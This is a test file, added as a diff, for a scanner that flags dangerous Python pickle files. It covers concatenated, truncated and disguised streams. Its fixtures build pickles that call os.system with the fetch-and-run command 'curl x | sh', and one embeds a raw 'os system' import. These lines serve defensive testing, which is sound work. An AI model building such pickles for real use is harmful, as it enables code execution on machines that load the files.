@@ -1,0 +1,154 @@
+import { describe, expect, it } from "vitest";
+import { analyseBytes, rules, scanBytes } from "../../pickle/test-helpers/analyse-bytes.js";
+import {
+  BENIGN_FIXTURES,
+  numpyArrayP4,
+  orderedDictP4,
+  osSystemP0,
+  osSystemP4,
+  sklearnP0,
+  torchStateDict,
+} from "../../pickle/test-helpers/fixtures.js";
+import { concat, pickle } from "../../pickle/test-helpers/pickle-builder.js";
+import { MemorySource } from "../../reader/byte-source.js";
+import { scanSource } from "../../scan.js";
+
+const CMD = "curl x | sh";
+const names = (r: { imports: { module: string; name: string }[] }) =>
+  r.imports.map((i) => `${i.module}.${i.name}`);
+
+describe("back-to-back pickles", () => {
+  it("accepts several benign pickles in one file and analyses them all", async () => {
+    const r = await scanBytes(concat(orderedDictP4(), torchStateDict(), numpyArrayP4()));
+    expect(r.verdict).toBe("safe");
+    expect(names(r)).toEqual(
+      expect.arrayContaining(["collections.OrderedDict", "torch._utils._rebuild_tensor_v2", "numpy.dtype"]),
+    );
+    expect(r.findings).toEqual([]);
+  });
+
+  it("finds a payload in a second pickle after a benign one", async () => {
+    const first = torchStateDict();
+    const r = await scanBytes(concat(first, osSystemP4(CMD)));
+    expect(r.verdict).toBe("dangerous");
+    const payload = osSystemP4(CMD);
+    expect(r.imports.find((i) => i.name === "system")?.location.offset).toBe(
+      first.length + payload.indexOf(0x93),
+    );
+  });
+
+  it("finds a payload in the tenth pickle", async () => {
+    const parts = Array.from({ length: 9 }, () => orderedDictP4());
+    const r = await scanBytes(concat(...parts, osSystemP0(CMD)));
+    expect(r.verdict).toBe("dangerous");
+  });
+});
+
+describe("broken streams keep their findings and are never safe", () => {
+  it("keeps a payload found before the stream breaks (no STOP)", async () => {
+    const b = pickle().proto(2).callGlobal("os", "system", CMD).binint1(1);
+    const r = await scanBytes(b.bytes());
+    expect(r.verdict).toBe("dangerous");
+    expect(rules(r.findings)).toContain("pickle/truncated");
+  });
+
+  it("keeps a payload found before an unknown opcode", async () => {
+    const r = await scanBytes(pickle().proto(2).callGlobal("os", "system", CMD).raw(0xff, 0, 0).bytes());
+    expect(r.verdict).toBe("dangerous");
+    expect(rules(r.findings)).toContain("pickle/unknown-opcode");
+  });
+
+  it("keeps a payload of a first pickle when the second one is truncated", async () => {
+    const second = torchStateDict();
+    const r = await scanBytes(concat(osSystemP4(CMD), second.subarray(0, 100)));
+    expect(r.verdict).toBe("dangerous");
+    expect(rules(r.findings)).toContain("pickle/truncated");
+  });
+
+  it("reports a benign stream cut anywhere after its PROTO as an error, never safe", async () => {
+    for (const [name, make] of Object.entries(BENIGN_FIXTURES)) {
+      const bytes = make();
+      if (bytes[0] !== 0x80) continue;
+      for (let cut = 2; cut < bytes.length; cut++) {
+        const r = await scanSource(new MemorySource(bytes.subarray(0, cut)), "cut.pkl");
+        expect(r.verdict, `${name} cut at ${cut}`).not.toBe("safe");
+        expect(r.format, `${name} cut at ${cut}`).toBe("pickle");
+      }
+    }
+  });
+
+  it("reports a protocol 0 stream cut after its first import as an error, never safe", async () => {
+    const bytes = sklearnP0();
+    const firstImportEnd = "ccopy_reg\n_reconstructor\n".length;
+    for (let cut = firstImportEnd; cut < bytes.length; cut++) {
+      const r = await scanSource(new MemorySource(bytes.subarray(0, cut)), "cut.pkl");
+      expect(r.verdict, `cut at ${cut}`).toBe("error");
+    }
+  });
+
+  it("reports a payload stream cut anywhere after the import as dangerous", async () => {
+    const bytes = osSystemP4(CMD);
+    const afterImport = bytes.indexOf(0x93) + 1;
+    for (let cut = afterImport; cut < bytes.length; cut++) {
+      const r = await scanSource(new MemorySource(bytes.subarray(0, cut)), "cut.pkl");
+      expect(r.verdict, `cut at ${cut}`).toBe("dangerous");
+    }
+  });
+
+  it("flags bytes after the last STOP that are not a pickle", async () => {
+    const r = await scanBytes(concat(orderedDictP4(), new Uint8Array([0, 0, 0, 0])));
+    expect(r.verdict).toBe("suspicious");
+    expect(rules(r.findings)).toEqual(["pickle/trailing-data"]);
+    const text = await scanBytes(concat(orderedDictP4(), new TextEncoder().encode("garbage")));
+    expect(rules(text.findings)).toEqual(["pickle/trailing-data"]);
+  });
+
+  it("treats junk after STOP that imports something as a pickle of its own", async () => {
+    const r = await scanBytes(concat(orderedDictP4(), new TextEncoder().encode("cos\nsystem\n")));
+    expect(r.verdict).toBe("dangerous");
+  });
+});
+
+describe("not a pickle", () => {
+  it("leaves text that starts with an opcode byte to other formats", async () => {
+    for (const text of ["(hello world)\n", "I am text\n", "Notes: 1. 2.\n", "}\n"]) {
+      const r = await scanSource(new MemorySource(new TextEncoder().encode(text)), "notes.txt");
+      expect(r.format, text).not.toBe("pickle");
+      expect(r.verdict, text).toBe("safe");
+    }
+  });
+
+  it("takes a file that starts with a valid PROTO for a pickle, however short", async () => {
+    const r = await scanSource(new MemorySource(Uint8Array.of(0x80, 4, 0x95)), "x");
+    expect(r).toMatchObject({ format: "pickle", verdict: "error" });
+    const bad = await scanSource(new MemorySource(Uint8Array.of(0x80, 9, 0x4e, 0x2e)), "x");
+    expect(bad.format).not.toBe("pickle");
+  });
+
+  it("accepts a well-formed pickle named like anything", async () => {
+    const r = await scanSource(new MemorySource(osSystemP4(CMD)), "cat.jpg");
+    expect(r).toMatchObject({ format: "pickle", verdict: "dangerous" });
+  });
+});
+
+describe("limits on streams per file", () => {
+  it("accepts maxPicklesPerFile streams and rejects one more", async () => {
+    const one = orderedDictP4();
+    const at = await scanBytes(concat(one, one, one), { limits: { maxPicklesPerFile: 3 } });
+    expect(at.verdict).toBe("safe");
+    const over = await scanBytes(concat(one, one, one, one), { limits: { maxPicklesPerFile: 3 } });
+    expect(over.verdict).toBe("error");
+    expect(rules(over.findings)).toEqual(["pickle/too-many-streams"]);
+    expect(over.findings[0]?.message).toMatch(/more than 3 pickle streams/);
+  });
+});
+
+describe("analysis starting inside a file", () => {
+  it("reports offsets from the start of the file", async () => {
+    const prefix = torchStateDict();
+    const payload = osSystemP4(CMD);
+    const a = await analyseBytes(concat(prefix, payload), {}, prefix.length);
+    expect(a.start).toBe(prefix.length);
+    expect(a.imports[0]?.offset).toBe(prefix.length + payload.indexOf(0x93));
+  });
+});
